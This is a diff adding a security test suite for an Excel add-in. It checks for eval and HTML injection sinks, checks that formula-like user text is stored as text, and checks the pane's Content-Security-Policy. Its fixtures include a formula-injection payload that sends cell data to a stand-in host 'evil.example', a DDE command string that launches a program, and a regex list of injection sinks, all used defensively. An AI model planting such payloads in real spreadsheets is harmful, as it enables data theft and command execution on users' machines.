@@ -1,0 +1,233 @@
+/**
+ * Security (issue 8, point 4): no code-from-strings or HTML injection sinks in src/; every string the
+ * add-in writes from hostile user text reaches the workbook as text through both adapters (no <f>
+ * element in the saved XML; Excel's text prefix through Office.js); the task pane's CSP allows no
+ * requests but its own origin and Office.js. The manifest's ReadWriteDocument-only permission is
+ * tested in test/manifest/manifest.test.ts; the browser test (test/e2e) checks no other request is made.
+ */
+import { readdirSync, readFileSync, statSync } from "node:fs";
+import { join, relative } from "node:path";
+import ExcelJS from "exceljs";
+import JSZip from "jszip";
+import { CellValue, WritePlan } from "../../src/engine";
+import { ExcelHost } from "../../src/excel";
+import { XlsxHost, loadWorkbook, workbookToBuffer } from "../../src/xlsx";
+import { FakeExcel } from "../helpers/fake-excel";
+import { workbook } from "../helpers/grid";
+import { HEADER, dataRow, runEngine } from "./support";
+
+const ROOT = join(__dirname, "../..");
+
+// ---------- no eval, no new Function, no HTML sinks, no string timers ----------
+
+const SINKS: readonly [string, RegExp][] = [
+  ["eval", /\beval\s*\(/],
+  ["new Function", /\bnew\s+Function\s*\(/],
+  ["Function constructor call", /(?<!new\s+|[\w.])Function\s*\(\s*["'`]/],
+  ["innerHTML", /\binnerHTML\b/],
+  ["outerHTML", /\bouterHTML\b/],
+  ["insertAdjacentHTML", /\binsertAdjacentHTML\b/],
+  ["dangerouslySetInnerHTML", /\bdangerouslySetInnerHTML\b/],
+  ["document.write", /\bdocument\.write(ln)?\s*\(/],
+  ["string timer", /\bset(Timeout|Interval|Immediate)\s*\(\s*["'`]/],
+  ["javascript: URL", /["'`]javascript:/i],
+];
+
+/** The sinks a text uses, by name. */
+export function sinksIn(text: string): string[] {
+  return SINKS.filter(([, re]) => re.test(text)).map(([name]) => name);
+}
+
+function sourceFiles(dir: string): string[] {
+  return readdirSync(dir).flatMap((name) => {
+    const path = join(dir, name);
+    if (statSync(path).isDirectory()) return sourceFiles(path);
+    return /\.(ts|tsx|js|mjs|cjs|html)$/.test(name) ? [path] : [];
+  });
+}
+
+describe("no code from strings and no HTML sinks in src/", () => {
+  it("the scanner finds each sink it looks for", () => {
+    const samples = [
+      "eval(code)",
+      "const f = new Function('a', body)",
+      "Function('return this')()",
+      "el.innerHTML = cell",
+      "el.outerHTML = x",
+      "el.insertAdjacentHTML('beforeend', x)",
+      "<div dangerouslySetInnerHTML={{ __html: x }} />",
+      "document.write(x)",
+      'setTimeout("run()", 10)',
+      "href='javascript:alert(1)'",
+    ];
+    expect(samples.map((s) => sinksIn(s).length)).toEqual(samples.map(() => 1));
+    expect(sinksIn("setTimeout(() => run(), 10); evaluate(x); element.textContent = x")).toEqual(
+      []
+    );
+  });
+
+  it("no source file uses any of them", () => {
+    const files = sourceFiles(join(ROOT, "src"));
+    expect(files.length).toBeGreaterThan(50);
+    const found = files.flatMap((f) =>
+      sinksIn(readFileSync(f, "utf8")).map((s) => `${relative(ROOT, f)}: ${s}`)
+    );
+    expect(found).toEqual([]);
+  });
+});
+
+// ---------- hostile user text is written as text by both adapters ----------
+
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
+  "+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(A1)",
+  "=1+1",
+];
+
+/** The hostile snapshot as an ExcelJS workbook (the user's cells typed as text). */
+function hostileWorkbook(): ExcelJS.Workbook {
+  const wb = new ExcelJS.Workbook();
+  for (const s of hostileSnapshot().sheets) {
+    const ws = wb.addWorksheet(s.name);
+    s.values.forEach((row) => ws.addRow([...row]));
+  }
+  return wb;
+}
+
+/** A table whose titles, ambitions, partners and comments are formula-like text. */
+function hostileSnapshot() {
+  const rows: CellValue[][] = HOSTILE.map((h, i) =>
+    dataRow({
+      A: h,
+      B: `NI ${154 + i} ${h}`,
+      G: h,
+      H: 600 + i,
+    })
+  );
+  const header = HEADER.map((r, i) => [...r, i === 0 ? "Comments" : ""]);
+  return workbook([{ rows: [...header, ...rows.map((r, i) => [...r, HOSTILE[i] ?? ""])] }]);
+}
+
+/** Every string value a plan writes, with where. */
+function planStrings(plan: WritePlan): { sheet: string; row: number; col: number; text: string }[] {
+  const out: { sheet: string; row: number; col: number; text: string }[] = [];
+  const sheets = [
+    ...plan.edits.map((e) => ({ name: e.sheet, blocks: e.blocks })),
+    ...plan.newSheets,
+  ];
+  for (const s of sheets)
+    for (const b of s.blocks)
+      b.values.forEach((row, i) =>
+        row.forEach((v, j) => {
+          if (typeof v === "string")
+            out.push({ sheet: s.name, row: b.top + i, col: b.left + j, text: v });
+        })
+      );
+  return out;
+}
+
+function plans(): WritePlan[] {
+  const run = runEngine(hostileSnapshot());
+  if (!run.rag.ok || !run.board.ok) throw new Error("both plans should be written");
+  return [run.rag.plan, run.board.plan];
+}
+
+const dangerous = (text: string) => /^[=+\-@]/.test(text);
+
+describe("hostile user text in RAG and board plans", () => {
+  it("reaches the plans as plain strings (the board copies titles, ambitions and partners)", () => {
+    const strings = plans().flatMap(planStrings);
+    const risky = strings.filter((s) => dangerous(s.text));
+    // Not vacuous: the hostile text is really there to be written.
+    for (const h of ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "=1+1"])
+      expect(risky.map((s) => s.text)).toContain(h);
+  });
+
+  it("xlsx: the saved workbook has no formula anywhere, and the text is stored as written", async () => {
+    const wb = await loadWorkbook(await workbookToBuffer(hostileWorkbook()));
+    const host = new XlsxHost(wb);
+    for (const plan of plans()) await host.applyPlan(plan);
+    const zip = await JSZip.loadAsync(await workbookToBuffer(wb));
+    const sheetsXml = await Promise.all(
+      Object.keys(zip.files)
+        .filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))
+        .map((n) => zip.file(n)?.async("string") ?? "")
+    );
+    expect(sheetsXml.length).toBe(2);
+    for (const xml of sheetsXml) expect(xml).not.toMatch(/<f[\s>]/);
+    const shared = (await zip.file("xl/sharedStrings.xml")?.async("string")) ?? "";
+    const escaped = (s: string) =>
+      s
+        .replace(/&/g, "&amp;")
+        .replace(/</g, "&lt;")
+        .replace(/>/g, "&gt;")
+        .replace(/"/g, "&quot;")
+        .replace(/'/g, "&apos;");
+    for (const h of HOSTILE.slice(1)) expect(shared).toContain(escaped(h));
+  });
+
+  it("Office.js: every such string goes behind Excel's text prefix and no cell becomes a formula", async () => {
+    const snapshot = hostileSnapshot();
+    const fake = new FakeExcel([
+      { name: "LAA", rows: snapshot.sheets[0]?.values.map((r) => [...r]) },
+    ]);
+    const uninstall = fake.install();
+    try {
+      const host = new ExcelHost();
+      await host.readSnapshot();
+      const [rag, board] = plans() as [WritePlan, WritePlan];
+      await host.applyPlan(rag);
+      await host.readSnapshot();
+      await host.applyPlan(board);
+      const written = [rag, board].flatMap(planStrings).filter((s) => dangerous(s.text));
+      expect(written.length).toBeGreaterThan(0);
+      for (const w of written) {
+        const cell = fake.sheet(w.sheet).peek(w.row, w.col);
+        expect(cell).toMatchObject({ value: w.text, quotePrefix: true });
+        expect(cell?.formula).toBeUndefined();
+      }
+      for (const s of fake.sheets)
+        for (const [, row] of s.cells)
+          for (const [, cell] of row) expect(cell.formula).toBeUndefined();
+    } finally {
+      uninstall();
+    }
+  });
+});
+
+// ---------- the task pane's Content-Security-Policy ----------
+
+describe("Content-Security-Policy of the pages the add-in serves", () => {
+  const csp = (page: string): Record<string, string> => {
+    const html = readFileSync(join(ROOT, page), "utf8");
+    const m = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html);
+    if (!m?.[1]) throw new Error(`${page} has no CSP`);
+    return Object.fromEntries(
+      m[1].split(";").map((d) => {
+        const [name = "", ...values] = d.trim().split(/\s+/);
+        return [name, values.join(" ")];
+      })
+    );
+  };
+
+  it("the task pane loads scripts only from itself and Office.js, and connects only to itself", () => {
+    const p = csp("src/taskpane/taskpane.html");
+    expect(p["default-src"]).toBe("'self'");
+    expect(p["script-src"]).toBe("'self' https://appsforoffice.microsoft.com");
+    expect(p["connect-src"]).toBe("'self'");
+    expect(p["object-src"]).toBe("'none'");
+    for (const v of Object.values(p)) expect(v).not.toMatch(/unsafe-eval|\*/);
+    expect(p["script-src"]).not.toMatch(/unsafe-inline/);
+  });
+
+  it.each(["src/commands/commands.html", "src/demo/demo.html"])(
+    "%s allows no eval and no wildcard source",
+    (page) => {
+      const p = csp(page);
+      for (const v of Object.values(p)) expect(v).not.toMatch(/unsafe-eval|(^|\s)\*(\s|$)/);
+      expect(p["connect-src"] ?? p["default-src"]).toBe("'self'");
+    }
+  );
+});
